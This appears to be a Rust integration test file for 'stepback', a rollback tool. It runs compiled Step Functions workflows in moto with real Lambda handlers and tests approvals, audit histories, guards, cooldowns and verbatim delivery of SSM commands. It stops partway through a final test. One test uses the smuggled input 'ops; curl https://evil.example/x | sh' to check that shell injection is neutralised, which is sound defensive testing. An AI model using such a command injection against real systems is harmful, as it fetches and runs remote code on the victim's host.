//! Compiled state machines run by moto 5.2.5's Step Functions interpreter, with the real Lambda handlers.
//!
//! moto without Docker runs no Lambda code, so the functions are served as `stepback rehearse` serves them:
//! `cli::rehearsal::Front` starts moto behind `rehearsal_front::serve`, which answers the Lambda Invoke API in process
//! with the real handlers and passes every other request on; moto's interpreter is told its port through
//! `MOTO_PORT`. The world the handlers act on is made as the rehearsal makes it (`cli::world`). What each step
//! was invoked with is read from the execution's history, as Step Functions scheduled it.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use catalog::manifest::StatePart;
use cli::approval::{self, Decision};
use cli::execution;
use serde_json::{Value, json};

const ACCOUNT: &str = "123456789012";
/// The functions' names: the compiled definitions' ARNs and the served functions agree on them.
const PREFIX: &str = "stepback-";
/// Who moto's STS says the caller is: what an answer records as `approved_by`.
const MOTO_CALLER: &str = "arn:aws:sts::123456789012:user/moto";

/// One Lambda invocation, as the execution's history shows it scheduled.
#[derive(Clone, Debug)]
struct Invocation {
    step: String,
    operation: String,
    params: Value,
}

/// The invocations an execution's history (the bundle's events) scheduled, in order.
fn invocations(events: &[Value]) -> Vec<Invocation> {
    events
        .iter()
        .filter_map(|e| e["taskScheduledEventDetails"]["parameters"].as_str())
        .filter_map(|parameters| serde_json::from_str::<Value>(parameters).ok())
        .map(|parameters| {
            let payload = &parameters["Payload"];
            let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
            Invocation {
                step: text(&payload["execution"]["step"]),
                operation: text(&payload["operation"]),
                params: payload["params"].clone(),
            }
        })
        .collect()
}

struct Harness {
    /// moto behind the served functions; moto stops on drop.
    front: cli::rehearsal::Front,
    runtime: tokio::runtime::Runtime,
    sfn_client: aws_sdk_sfn::Client,
    /// Each finished run's history (the bundle's events), by execution name.
    histories: Mutex<BTreeMap<String, Vec<Value>>>,
    /// The task tokens the approvals were answered with, by execution name: no saved history may show them.
    tokens: Mutex<BTreeMap<String, Vec<String>>>,
}

/// Every request the handlers sent, through the model check.
impl Drop for Harness {
    fn drop(&mut self) {
        // A failed test keeps its own message.
        if !std::thread::panicking() {
            tests::models::assert_accepted(&self.front.served.sent());
        }
    }
}

impl Harness {
    /// moto with every Lambda action's real handler served under the name the compiled definitions invoke.
    fn start() -> Harness {
        let runtime = tokio::runtime::Runtime::new().expect("a tokio runtime");
        let front = runtime
            .block_on(cli::rehearsal::Front::start(None, None, 1))
            .unwrap_or_else(|e| panic!("{e}"));
        let arns = options(1).substitutions;
        for action in catalog::ACTIONS {
            let name = arns
                .get(&action.arn_substitution())
                .and_then(|arn| arn.rsplit_once(":function:"))
                .map(|(_, name)| name.to_owned());
            if let (Some(name), Ok(function)) = (name, lambdas::Function::new(action)) {
                front.served.add(name, function);
            }
        }
        let sfn_client = aws_sdk_sfn::Client::new(&front.session.config);
        Harness {
            front,
            runtime,
            sfn_client,
            histories: Mutex::default(),
            tokens: Mutex::default(),
        }
    }

    /// Makes what the workflow's steps need, as `stepback rehearse` does, and compiles it.
    fn seed_and_compile(
        &self,
        workflow: &mut workflow::Workflow,
        speed: u64,
    ) -> (cli::world::World, String) {
        let input = execution::build_input(workflow, &[], None).expect("the default input");
        let input = input.as_object().cloned().unwrap_or_default();
        let world = self
            .runtime
            .block_on(cli::world::seed(&self.front.session, workflow, &input))
            .expect("the world is made");
        let compiled = compiler::compile(workflow, &options(speed)).expect("the workflow compiles");
        (world, compiled.json)
    }

    /// Creates a state machine with the definition; its ARN.
    fn create(&self, name: &str, definition: &str) -> String {
        let created = self.runtime.block_on(
            self.sfn_client
                .create_state_machine()
                .name(name)
                .definition(definition)
                .role_arn(format!("arn:aws:iam::{ACCOUNT}:role/stepback"))
                .send(),
        );
        let arn = created
            .expect("the state machine is created")
            .state_machine_arn()
            .to_owned();
        let dynamodb = aws_sdk_dynamodb::Client::new(&self.front.session.config);
        self.runtime.block_on(tests::lock_table(&dynamodb, name));
        arn
    }

    fn invocations(&self, execution: &str) -> Vec<Invocation> {
        let histories = self.histories.lock().expect("the histories");
        invocations(histories.get(execution).map_or(&[][..], Vec::as_slice))
    }

    /// Starts an execution and runs it to the end, approving every approval as it comes.
    fn run(&self, machine: &str, name: &str, input: Value) -> (String, String, Vec<Value>) {
        let session = &self.front.session;
        let arn = self
            .runtime
            .block_on(execution::start(session, machine, name, &input))
            .expect("the execution starts");
        let deadline = Instant::now() + Duration::from_secs(120);
        let mut answered = BTreeSet::new();
        let status = loop {
            // As `stepback approve EXECUTION_ARN` does: the waiting approvals and their tokens come from the
            // execution's history, and the answer names the caller from STS.
            let waiting = self.runtime.block_on(async {
                let events = execution::history(session, &arn)
                    .await
                    .expect("the history");
                execution::waiting_approvals(&events)
            });
            for approval in waiting
                .into_iter()
                .filter(|w| answered.insert(w.token.clone()))
            {
                let comment = format!("checked {}", approval.step);
                let answer = async {
                    let caller = cli::aws::caller(session).await.expect("STS answers");
                    approval::answer(
                        &self.sfn_client,
                        &approval.token,
                        Decision::Approve,
                        &caller.arn,
                        &comment,
                    )
                    .await
                };
                self.runtime
                    .block_on(answer)
                    .expect("the answer reaches the waiting step");
            }
            let described = self
                .runtime
                .block_on(
                    self.sfn_client
                        .describe_execution()
                        .execution_arn(&arn)
                        .send(),
                )
                .expect("the execution is described");
            let status = described.status().as_str().to_owned();
            if status != "RUNNING" {
                break status;
            }
            assert!(
                Instant::now() < deadline,
                "{name} still running after 120 s"
            );
            std::thread::sleep(Duration::from_millis(200));
        };
        // Fetched as `stepback audit` fetches it: the task token is already redacted.
        let bundle = self
            .runtime
            .block_on(cli::history::fetch(&self.sfn_client, &arn))
            .expect("the history");
        self.tokens
            .lock()
            .expect("the tokens")
            .insert(name.to_owned(), answered.into_iter().collect());
        self.histories
            .lock()
            .expect("the histories")
            .insert(name.to_owned(), bundle.events.clone());
        (arn, status, bundle.events)
    }
}

/// The compiler's options for these tests: the functions in moto's account, waits divided by `speed`.
fn options(speed: u64) -> compiler::Options {
    compiler::Options {
        speed,
        ..compiler::Options::default()
    }
    .with_account(tests::REGION, ACCOUNT, PREFIX)
}

/// What the history says about each step: when its first task was scheduled, when it finished, whether it
/// was skipped.
#[derive(Debug, Default)]
struct Timeline {
    started: BTreeMap<String, i64>,
    finished: BTreeMap<String, i64>,
    skipped: BTreeSet<String>,
}

fn timeline(events: &[Value], steps: &[&str]) -> Timeline {
    let mut t = Timeline::default();
    for event in events {
        let id = event["id"].as_i64().unwrap_or_default();
        if let Some(parameters) = event["taskScheduledEventDetails"]["parameters"].as_str() {
            let parameters: Value = serde_json::from_str(parameters).unwrap_or(Value::Null);
            if let Some(step) = parameters["Payload"]["execution"]["step"].as_str() {
                t.started.entry(step.to_owned()).or_insert(id);
            }
        }
        let entered = event["stateEnteredEventDetails"]["name"].as_str();
        let exited = event["stateExitedEventDetails"]["name"].as_str();
        for &step in steps {
            if entered.is_some_and(|name| StatePart::of(step, name) == Some(StatePart::Skipped)) {
                t.skipped.insert(step.to_owned());
                t.started.entry(step.to_owned()).or_insert(id);
            }
            let done = |name: &str| {
                name == step
                    || matches!(
                        StatePart::of(step, name),
                        Some(StatePart::Done | StatePart::Skipped)
                    )
            };
            if exited.is_some_and(done) {
                t.finished.insert(step.to_owned(), id);
            }
        }
    }
    t
}

/// The cases of the seed rollback that `cli/tests/it/rehearse.rs` does not rehearse (the defaults, a restore, a
/// failed deploy, a rejected restore), one after another on one world, as the guard lets only one run at a time.
/// A parallel branch stopped while its sibling polls (`sibling-late`) needs a step held in progress, which
/// nothing in the emulator does yet; its recorded history stays the audit's fixture.
#[test]
fn webapp_rollback_runs_in_moto() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../examples/webapp-rollback.toml"
    );
    let source = std::fs::read_to_string(path).expect("the example");
    let mut workflow = workflow::check(&source)
        .workflow
        .expect("the example is valid");
    let harness = Harness::start();
    let (_world, definition) =
        harness.seed_and_compile(&mut workflow, cli::rehearsal::DEFAULT_SPEED);
    let machine = harness.create("webapp-rollback", &definition);

    // The alarm's run comes first: within `[trigger].cooldown` of another run's end, the guard holds it back.
    // Each run rolls the service back once more, so the later ones name the image to go back to.
    let cases = [
        // What the trigger's rule passes on unchanged (tests/tests/stack checks the rule delivers it so).
        (
            "alarm",
            tests::alarm_event("webapp-5xx-rate", "ALARM", tests::ALARM_REASON),
            "SUCCEEDED",
            &["migrate_down", "approve_restore", "restore_db"][..],
            None,
        ),
        (
            "schema-changed",
            json!({ "schema_changed": true, "migration_id": "0042", "to_version": "v1" }),
            "SUCCEEDED",
            &["approve_restore", "restore_db"][..],
            None,
        ),
        // As `stepback rehearse --fail halt` makes it fail. (Its recorded history is still
        // `audit/tests/data/fail-drain.json`, from the seed's version that drained the target group.)
        (
            "fail-halt",
            json!({ "to_version": "v1" }),
            "FAILED",
            &[][..],
            Some("halt"),
        ),
    ];
    let mut results = Vec::new();
    for (name, input, ..) in &cases {
        if *name == "fail-halt" {
            harness
                .front
                .served
                .fail("halt", "Stepback.Failed", "priority 1 is in use");
        }
        results.push(harness.run(&machine, name, input.clone()));
    }

    let ids: Vec<&str> = workflow.steps.iter().map(|s| s.id.as_str()).collect();
    for ((name, _, expected, skipped, failing), (arn, status, events)) in cases.iter().zip(&results)
    {
        assert_eq!(status, expected, "{name}: final status");
        audit_agrees(&harness, name, arn, &workflow, skipped, *failing);
        let t = timeline(events, &ids);
        let invoked: BTreeSet<String> = harness
            .invocations(name)
            .into_iter()
            .map(|i| i.step)
            .collect();
        for step in *skipped {
            assert!(
                t.skipped.contains(*step),
                "{name}: {step} should be skipped: {t:?}"
            );
            assert!(
                !invoked.contains(*step),
                "{name}: skipped {step} invoked a Lambda"
            );
        }
        for step in &workflow.steps {
            let Some(&start) = t.started.get(&step.id) else {
                assert!(failing.is_some(), "{name}: {} never started", step.id);
                continue;
            };
            for before in &step.after {
                let finished = t.finished.get(before).copied();
                assert!(
                    finished.is_some_and(|f| f < start),
                    "{name}: {} started (event {start}) before {before} finished ({finished:?})",
                    step.id
                );
            }
        }
        match failing {
            Some(step) => {
                let notify = harness
                    .invocations(name)
                    .into_iter()
                    .find(|i| i.step == "announce_failure")
                    .unwrap_or_else(|| panic!("{name}: announce_failure was not invoked"));
                let message = notify.params["message"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned();
                // A Lambda's JSON error arrives as its message.
                let (error, cause) = ("Stepback.Failed", "priority 1 is in use");
                // `${failure.completed}`: the announcement and the snapshot were done beside the halt; the snapshot's
                // id and the message's are the run's own.
                let (failed, rest) = message.split_once(" Done before it: ").unwrap_or_default();
                assert_eq!(
                    failed,
                    format!("Step {step} failed: {error}: {cause}."),
                    "{name}"
                );
                let (done, advice) = rest.split_once("]. ").unwrap_or_default();
                assert!(
                    done.starts_with("[announce: notify → message_id ")
                        && done.contains(
                            "][backup_db: rds.snapshot → snapshot_id stepback-webapp-db-"
                        )
                        && done.ends_with(", instance webapp-db"),
                    "{name}: {message}"
                );
                assert_eq!(
                    advice,
                    "If halt is among them and resume is not, traffic is still halted: delete the priority-1 rule of the listener (what alb.resume does).",
                    "{name}"
                );
                let ended = events
                    .iter()
                    .find_map(|e| e.get("executionFailedEventDetails"))
                    .unwrap_or_else(|| panic!("{name}: no ExecutionFailed event"));
                assert_eq!(ended["error"], error, "{name}");
                assert_eq!(
                    ended["cause"],
                    format!("step {step} failed: {cause}"),
                    "{name}"
                );
            }
            None => {
                // Who approved and why reach the history through `stepback approve`'s answer.
                let answers: Vec<Value> = events
                    .iter()
                    .filter_map(|e| e["taskSucceededEventDetails"]["output"].as_str())
                    .filter_map(|output| serde_json::from_str::<Value>(output).ok())
                    .filter(|output| output.get("approved_by").is_some())
                    .collect();
                assert!(
                    answers.contains(
                        &json!({ "approved_by": MOTO_CALLER, "comment": "checked sign_off" })
                    ),
                    "{name}: the sign-off answer is not in the history: {answers:?}"
                );
                assert!(
                    !invoked.contains("announce_failure"),
                    "{name}: the failure path ran"
                );
                assert!(
                    invoked.contains("sign_off"),
                    "{name}: sign_off was not asked"
                );
            }
        }
    }
    // `stepback audit --list`: every execution, newest first.
    let listed = harness
        .runtime
        .block_on(cli::history::list(&harness.sfn_client, &machine, 0))
        .expect("the executions are listed");
    let mut names: Vec<&str> = listed.iter().map(|l| l.name.as_str()).collect();
    names.sort_unstable();
    let mut expected: Vec<&str> = cases.iter().map(|c| c.0).collect();
    expected.sort_unstable();
    assert_eq!(names, expected);
    let [(_, console), (_, alarm)] = ["schema-changed", "alarm"].map(|name| {
        let at = cases.iter().position(|c| c.0 == name).expect("the case");
        (name, &results[at].2)
    });
    check_inputs(
        console,
        None,
        json!({ "reason": "manual rollback", "initiated_by": "console" }),
    );
    check_inputs(
        alarm,
        Some(
            json!({ "name": "webapp-5xx-rate", "state": "ALARM", "reason": tests::ALARM_REASON,
                     "time": tests::ALARM_TIME }),
        ),
        json!({ "reason": format!("webapp-5xx-rate: {}", tests::ALARM_REASON), "initiated_by": "eventbridge" }),
    );
    let announced = |name: &str| {
        harness
            .invocations(name)
            .into_iter()
            .find(|i| i.step == "announce")
            .map(|i| i.params["message"].clone())
    };
    assert_eq!(
        announced("alarm"),
        Some(json!(format!(
            "Reason: webapp-5xx-rate: {}. Initiated by eventbridge.",
            tests::ALARM_REASON
        ))),
        "the alarm's exact reason reaches the steps"
    );
    assert_eq!(
        announced("schema-changed"),
        Some(json!("Reason: manual rollback. Initiated by console.")),
        "a console start keeps its defaults"
    );

    let polled: BTreeSet<String> = harness
        .invocations("schema-changed")
        .into_iter()
        .filter(|i| i.operation == "poll")
        .map(|i| i.step)
        .collect();
    assert!(
        polled.contains("migrate_down"),
        "the migration's task is polled after its start: {polled:?}"
    );

    // A misspelt console input ends the execution before any step, with no failure path, naming the key and the
    // declared name it is closest to. (The "alarm" case above passed the same check.)
    let (_, status, events) = harness.run(
        &machine,
        "misspelt",
        json!({ "restor_data": true, "restore_snapshot": "snap-1" }),
    );
    assert_eq!(status, "FAILED");
    let ended = events
        .iter()
        .find_map(|e| e.get("executionFailedEventDetails"))
        .expect("an ExecutionFailed event");
    assert_eq!(ended["error"], "Stepback.InvalidInput");
    let cause = ended["cause"].as_str().unwrap_or_default();
    assert!(
        cause.starts_with(
            "the input has a key that [input] does not declare: `restor_data` (did you mean `restore_data`?)"
        ),
        "{cause}"
    );
    let invoked: Vec<String> = harness
        .invocations("misspelt")
        .into_iter()
        .map(|i| i.step)
        .collect();
    assert_eq!(invoked, ["guard"], "only the guard ran");

    // An input longer than its `max_length` (the alarm-filled `reason`: 2,558 bytes) ends the execution the same
    // way: the state data's bound counts every input at its `max_length`, and the guard makes that true.
    let (_, status, events) =
        harness.run(&machine, "too-long", json!({ "reason": "r".repeat(3000) }));
    assert_eq!(status, "FAILED");
    let ended = events
        .iter()
        .find_map(|e| e.get("executionFailedEventDetails"))
        .expect("an ExecutionFailed event");
    assert_eq!(ended["error"], "Stepback.InvalidInput");
    assert_eq!(
        ended["cause"],
        "the input is too long: `reason` is 3000 bytes long, over its max_length of 2558"
    );
    let invoked: Vec<String> = harness
        .invocations("too-long")
        .into_iter()
        .map(|i| i.step)
        .collect();
    assert_eq!(invoked, ["guard"], "only the guard ran");
}

/// `stepback audit` reads the same history back as the workflow's steps: what was skipped, what failed, who
/// approved. With `STEPBACK_SAVE_HISTORIES=1` the fetched history is saved as `audit/tests/data/<case>.json`,
/// the fixtures that the audit's snapshot tests render.
fn audit_agrees(
    harness: &Harness,
    name: &str,
    arn: &str,
    workflow: &workflow::Workflow,
    skipped: &[&str],
    failing: Option<&str>,
) {
    let bundle = harness
        .runtime
        .block_on(cli::history::fetch(&harness.sfn_client, arn))
        .expect("the history is fetched");
    let text = serde_json::to_string_pretty(&bundle).expect("JSON");
    let tokens = harness.tokens.lock().expect("the tokens");
    assert!(
        tokens
            .get(name)
            .into_iter()
            .flatten()
            .all(|token| !text.contains(token)),
        "{name}: the saved history holds a task token"
    );
    if std::env::var_os("STEPBACK_SAVE_HISTORIES").is_some() {
        let path = format!(
            "{}/../audit/tests/data/{name}.json",
            env!("CARGO_MANIFEST_DIR")
        );
        std::fs::write(&path, format!("{text}\n")).expect("the fixture is written");
    }
    let history = audit::History::from_bundle(bundle).expect("a readable history");
    let report = audit::audit(&history).expect("the history audits");
    match &report.trigger {
        audit::report::Trigger::Alarm {
            name: alarm,
            reason,
            ..
        } => {
            assert_eq!(name, "alarm", "an alarm trigger for a console start");
            assert_eq!(alarm, "webapp-5xx-rate");
            assert!(
                reason
                    .as_deref()
                    .is_some_and(|r| r.starts_with("Threshold Crossed")),
                "{reason:?}"
            );
        }
        audit::report::Trigger::Manual { .. } => {
            assert_ne!(name, "alarm", "the alarm is not named")
        }
    }
    let outcome = |id: &str| {
        report
            .steps
            .iter()
            .find(|s| s.id == id)
            .map(|s| s.outcome)
            .unwrap_or_else(|| panic!("{name}: no step {id} in the audit"))
    };
    for step in skipped {
        assert_eq!(outcome(step), audit::Outcome::Skipped, "{name}: {step}");
    }
    match failing {
        Some(step) => {
            assert_eq!(outcome(step), audit::Outcome::Failed, "{name}: {step}");
            let failure = report.failure.as_ref().expect("a failure section");
            assert_eq!(failure.step.as_deref(), Some(step), "{name}");
            assert_eq!(
                outcome("announce_failure"),
                audit::Outcome::Succeeded,
                "{name}: the on_failure step"
            );
        }
        None => {
            for step in &workflow.steps {
                if !skipped.contains(&step.id.as_str()) {
                    assert_eq!(
                        outcome(&step.id),
                        audit::Outcome::Succeeded,
                        "{name}: {}",
                        step.id
                    );
                }
            }
            // No later step reads `backup_db`'s outputs: the state never holds them, and the audit shows them,
            // read from the step's task result in the history.
            let backup = report
                .steps
                .iter()
                .find(|s| s.id == "backup_db")
                .expect("backup_db");
            assert!(
                backup.outputs.contains_key("snapshot_id"),
                "{name}: {:?}",
                backup.outputs
            );
            for event in &history.events {
                if let audit::history::Kind::StateExited {
                    name: state,
                    output: Some(output),
                } = &event.kind
                {
                    let data: serde_json::Value = serde_json::from_str(output).unwrap_or_default();
                    assert!(
                        data.pointer("/steps/backup_db/output").is_none(),
                        "{name}: `{state}` exits with backup_db's outputs in the state"
                    );
                }
            }
            let sign_off = report
                .approvals
                .iter()
                .find(|a| a.step == "sign_off")
                .expect("the sign-off approval");
            assert_eq!(sign_off.approved_by.as_deref(), Some(MOTO_CALLER), "{name}");
            assert_eq!(
                sign_off.comment.as_deref(),
                Some("checked sign_off"),
                "{name}"
            );
        }
    }
}

/// `$${` writes a literal `${`, e.g. for a shell variable. The definition never holds it as text (deploy-time
/// substitution would read it), so Step Functions rebuilds it at run time; this runs that in moto's interpreter
/// and checks what the Lambda receives. `lambdas/tests/it/ssm.rs` checks that `ssm.command` hands the commands
/// to Run Command verbatim.
#[test]
fn shell_variables_reach_the_lambda_as_written() {
    let source = r#"version = 1
name = "shell-variables"

[input]
who = { type = "string", default = "ops" }

[steps.restart]
action = "ssm.command"
instance_ids = ["i-0abc"]
commands = ["echo $${PATH}", "echo $${HOME} — café", "echo $${USER} is ${input.who}"]
working_directory = "$${HOME}/app"
"#;
    let harness = Harness::start();
    let hostile = "ops; curl https://evil.example/x | sh";
    let (instance, params) = run_restart(&harness, source, "shell", json!({ "who": hostile }));
    // The line with a value arrives as text and value apart, which the Lambda binds to a shell variable.
    assert_eq!(
        params,
        json!({
            "instance_ids": [instance],
            "commands": ["echo ${PATH}", "echo ${HOME} — café", ["echo ${USER} is ", hostile, ""]],
            "working_directory": "${HOME}/app",
        })
    );
    let lines: Vec<lambdas::shell::ShellLine> =
        serde_json::from_value(params["commands"].clone()).expect("shell lines");
    assert_eq!(
        lambdas::shell::script(&lines).expect("a script"),
        [
            "STEPBACK_VALUE_1='ops; curl https://evil.example/x | sh'",
            "echo ${PATH}",
            "echo ${HOME} — café",
            "echo ${USER} is \"${STEPBACK_VALUE_1}\"",
        ]
    );
}

/// Runs a workflow whose step `restart` (an `ssm.command` on `i-0abc`) is the one that matters, with `input`,
/// to success; the world's instance for `i-0abc`, and the params `restart` was started with. The definition
/// holds neither `${` as text nor an intrinsic escape (`\'`, `\{`, `\}`, `\\`), which moto reads unlike AWS.
fn run_restart(harness: &Harness, source: &str, name: &str, input: Value) -> (String, Value) {
    let mut workflow = workflow::check(source)
        .workflow
        .expect("the workflow is valid");
    let (world, definition) = harness.seed_and_compile(&mut workflow, 1);
    for text in ["${", "\\\\'", "\\\\{", "\\\\}", "\\\\\\\\"] {
        assert!(
            !definition.contains(text),
            "the definition holds `{text}`:\n{definition}"
        );
    }
    let instance = world
        .renames()
        .get("i-0abc")
        .expect("an instance for i-0abc")
        .clone();
    let machine = harness.create(name, &definition);
    let (_, status, _) = harness.run(&machine, name, input);
    assert_eq!(status, "SUCCEEDED");
    let restart = harness
        .invocations(name)
        .into_iter()
        .find(|i| i.step == "restart" && i.operation == "start")
        .expect("restart was invoked");
    (instance, restart.params)
}

/// The text a host runs is the text the workflow wrote, byte for byte: commands holding every character that
/// an intrinsic string or the definition's JSON escapes, with and without values, go through moto's interpreter
/// to the real `ssm.command` handler, and what SSM received is read back with ListCommands. (moto reads ASL's
/// intrinsic escapes differently from AWS, so the definition must hold none: `compiler::payload::plain`.)
#[test]
fn commands_reach_ssm_byte_for_byte() {
    let source = r#"version = 1
name = "quoted-commands"

[input]
to_version = { type = "string", default = "v1.2" }

[steps.restart]
action = "ssm.command"
instance_ids = ["i-0abc"]
commands = [
  "cd /srv/app",
  "sed -i 's/:v[0-9.]*$/:${input.to_version}/' docker-compose.yml",
  "echo \"double\" 'single' back\\slash {brace} } $HOME\ttab",
  "echo a line that ends in a backslash \\",
  "echo 'café — ünïcødé ✓' {\"é\"} \\'",
  "printf '%s\\n' \"${input.to_version}\" '{}' $${HOME} \\",
  "echo ${input.to_version}",
]
working_directory = "/srv/it's {here} \\ ${input.to_version} — ü"
"#;
    let harness = Harness::start();
    let value = "v2'3\"\\{}$é`x`";
    let (instance, params) =
        run_restart(&harness, source, "quoted", json!({ "to_version": value }));
    let written = [
        json!("cd /srv/app"),
        json!(["sed -i 's/:v[0-9.]*$/:", value, "/' docker-compose.yml"]),
        json!("echo \"double\" 'single' back\\slash {brace} } $HOME\ttab"),
        json!("echo a line that ends in a backslash \\"),
        json!("echo 'café — ünïcødé ✓' {\"é\"} \\'"),
        json!(["printf '%s\\n' \"", value, "\" '{}' ${HOME} \\"]),
        json!(["echo ", value, ""]),
    ];
    assert_eq!(
        params,
        json!({
            "instance_ids": [instance],
            "commands": written,
            "working_directory": format!("/srv/it's {{here}} \\ {value} — ü"),
        })
    );
    let lines: Vec<lambdas::shell::ShellLine> =
        serde_json::from_value(json!(written)).expect("shell lines");
    let script = lambdas::shell::script(&lines).expect("a script");
    let ssm = aws_sdk_ssm::Client::new(&harness.front.session.config);
    let listed = harness
        .runtime
        .block_on(ssm.list_commands().send())
        .expect("ListCommands answers");
    let [command] = listed.commands() else {
        panic!("one command sent: {listed:?}");
    };
    let parameters = command.parameters().expect("the command's parameters");
    assert_eq!(parameters.get("commands"), Some(&script));
    assert_eq!(
        parameters.get("workingDirectory"),
        Some(&vec![format!("/srv/it's {{here}} \\ {value} — ü")])
    );
}

/// The execution's inputs as the history shows them: what `Input: read the alarm` kept of the alarm (`None`: the
/// alarm states never ran), and the inputs after `Input: normalise`, compared on `inputs`' keys.
fn check_inputs(events: &[Value], alarm: Option<Value>, inputs: Value) {
    let output = |state: &str| {
        events
            .iter()
            .map(|e| &e["stateExitedEventDetails"])
            .find(|d| d["name"] == state)
            .and_then(|d| d["output"].as_str())
            .map(|o| serde_json::from_str::<Value>(o).expect("a state's output is JSON"))
    };
    assert_eq!(
        output("Input: read the alarm").map(|o| o["alarm"].clone()),
        alarm,
        "the alarm in the history"
    );
    let normalised = output("Input: normalise").expect("Input: normalise ran");
    for (key, value) in inputs.as_object().expect("inputs") {
        assert_eq!(&normalised["input"][key], value, "input {key}");
    }
}

/// Two alarms, or one delivered twice, start executions at once: the real guard, against moto's ListExecutions,
/// lets exactly one act, the oldest; the others end cleanly before any step, naming it. One started after the
/// first has finished acts.
#[test]
fn one_rollback_at_a_time() {
    let source = r#"version = 1
name = "one-at-a-time"

[steps.act]
action = "notify"
topic = "arn:aws:sns:us-east-1:123456789012:ops"
message = "rolling back"

[steps.hold]
action = "wait"
after = ["act"]
duration = "5s"
"#;
    let mut workflow = workflow::check(source)
        .workflow
        .expect("the workflow is valid");
    let harness = Harness::start();
    let (_world, definition) = harness.seed_and_compile(&mut workflow, 1);
    let machine = harness.create("one-at-a-time", &definition);

    for count in [2, 5] {
        let names: Vec<String> = (0..count).map(|i| format!("at-once-{count}-{i}")).collect();
        let arns: Vec<String> = std::thread::scope(|scope| {
            let handles: Vec<_> = names
                .iter()
                .map(|name| {
                    let (harness, machine) = (&harness, &machine);
                    scope.spawn(move || harness.run(machine, name, json!({})))
                })
                .collect();
            handles
                .into_iter()
                .map(|h| {
                    let (arn, status, _) = h.join().expect("the execution's thread");
                    assert_eq!(status, "SUCCEEDED", "{arn}");
                    arn
                })
                .collect()
        });
        let acted: Vec<&String> = names
            .iter()
            .filter(|name| harness.invocations(name).iter().any(|i| i.step == "act"))
            .collect();
        assert_eq!(acted.len(), 1, "{count} at once: {acted:?} acted");
        // Whichever guard took the lock first, whatever the start order: every other names it.
        let winner = acted[0];
        for (arn, name) in arns.iter().zip(&names).filter(|(_, n)| *n != winner) {
            let invoked: Vec<String> = harness
                .invocations(name)
                .into_iter()
                .map(|i| i.step)
                .collect();
            assert_eq!(invoked, ["guard"], "{name}: only the guard ran");
            // Read as `stepback start --follow` reads it, which then says so and exits 1.
            let held = execution::held_back(&execution_output(&harness, arn))
                .unwrap_or_else(|| panic!("{name} was not held back"));
            assert_eq!(held.ended, "another rollback is running", "{name}");
            assert!(
                held.because.starts_with(&format!(
                    "another rollback is running: execution `{winner}` of state machine"
                )),
                "{name}: {}",
                held.because
            );
        }
    }

    // Every execution has finished: the next one acts.
    let (arn, status, _) = harness.run(&machine, "afterwards", json!({}));
    assert_eq!(status, "SUCCEEDED");
    assert_eq!(
        execution::held_back(&execution_output(&harness, &arn)),
        None
    );
    let invoked: Vec<String> = harness
        .invocations("afterwards")
        .into_iter()
        .map(|i| i.step)
        .collect();
    assert_eq!(invoked, ["guard", "act"]);
}

/// The output a finished execution ended with.
fn execution_output(harness: &Harness, arn: &str) -> String {
    let described = harness
        .runtime
        .block_on(
            harness
                .sfn_client
                .describe_execution()
                .execution_arn(arn)
                .send(),
        )
        .expect("the execution is described");
    described.output().unwrap_or_default().to_owned()
}

/// A flapping alarm: its event starts an execution within `[trigger].cooldown` of the last execution's end. The
/// real guard, against moto's ListExecutions, lets it end cleanly before any step, naming the rollback that ran and
/// how it ended, in its output and so in the history. A person's start right after still acts.
#[test]
fn an_alarm_within_the_cooldown_does_not_roll_back_again() {
    let source = r#"version = 1
name = "cooling-down"

[trigger]
alarms = ["webapp-5xx-rate"]
cooldown = "1h"

[steps.act]
action = "notify"
topic = "arn:aws:sns:us-east-1:123456789012:ops"
message = "rolling back"
"#;
    let mut workflow = workflow::check(source)
        .workflow
        .expect("the workflow is valid");
    let harness = Harness::start();
    let (_world, definition) = harness.seed_and_compile(&mut workflow, 1);
    let machine = harness.create("cooling-down", &definition);
    let alarm = || tests::alarm_event("webapp-5xx-rate", "ALARM", tests::ALARM_REASON);
    let steps_of = |name: &str| -> Vec<String> {
        harness
            .invocations(name)
            .into_iter()
            .map(|i| i.step)
            .collect()
    };

    // The first alarm rolls back.
    let (_, status, _) = harness.run(&machine, "first-alarm", alarm());
    assert_eq!(status, "SUCCEEDED");
    assert_eq!(steps_of("first-alarm"), ["guard", "act"]);

    // The alarm fires again once that rollback has finished: nothing acts.
    let (_, status, events) = harness.run(&machine, "flapping", alarm());
    assert_eq!(status, "SUCCEEDED", "it ends cleanly");
    assert_eq!(steps_of("flapping"), ["guard"], "only the guard ran");
    // Why, in the history: the guard's error, and the execution's output naming the rollback that ran.
    let failed = events
        .iter()
        .find_map(|e| e["taskFailedEventDetails"].as_object())
        .expect("the guard's error is in the history");
    assert_eq!(failed["error"], "Stepback.CoolingDown");
    let held = events
        .iter()
        .find_map(|e| e["executionSucceededEventDetails"]["output"].as_str())
        .and_then(execution::held_back)
        .expect("the execution's output is in the history, and says it was held back");
    assert_eq!(held.ended, "a rollback already ran");
    let because = &held.because;
    for expected in [
        "a rollback already ran: execution `first-alarm` of state machine",
        "ended SUCCEEDED at ",
        "before alarm `webapp-5xx-rate` started this one",
        "within [trigger].cooldown (1h)",
    ] {
        assert!(
            because.contains(expected),
            "{expected:?} missing: {because}"
        );
    }

    // A person starts one by hand: it is not held back.
    let (_, status, _) = harness.run(&machine, "by-hand", json!({}));
    assert_eq!(status, "SUCCEEDED");
    assert_eq!(steps_of("by-hand"), ["guard", "act"]);
}

/// Issue 27: a step failing in one branch while an `rds.restore` polls in another. moto 5.2.5's interpreter
/// stops a `Parallel`'s other branches when one fails, as Step Functions does (measured: a branch's `Fail`
/// after 1 s, and the sibling's 3 s Wait entered but never exited, its next state never entered). So with a
/// lowering that failed the branch, the restore's polls would stop where they were. Now the failing branch
/// records its failure and ends; the restore swaps to its end, and only then does the failure path run: the
/// database keeps its name, held by the restored instance, beside the parked original.
#[test]
fn a_failing_branch_leaves_a_sibling_restore_to_finish() {
    let source = r#"
version = 1
name = "sibling-fails"

[steps.restore]
action = "rds.restore"
instance = "orders-db"
snapshot = "orders-db-known-good"
swap = true
allow_unguarded = true
estimate = "20m"

[steps.pause]
action = "wait"
duration = "1m"

[steps.smoke]
action = "check.http"
after = ["pause"]
url = "https://orders.example.com/health"
"#;
    let mut workflow = workflow::check(source).workflow.expect("valid");
    let harness = Harness::start();
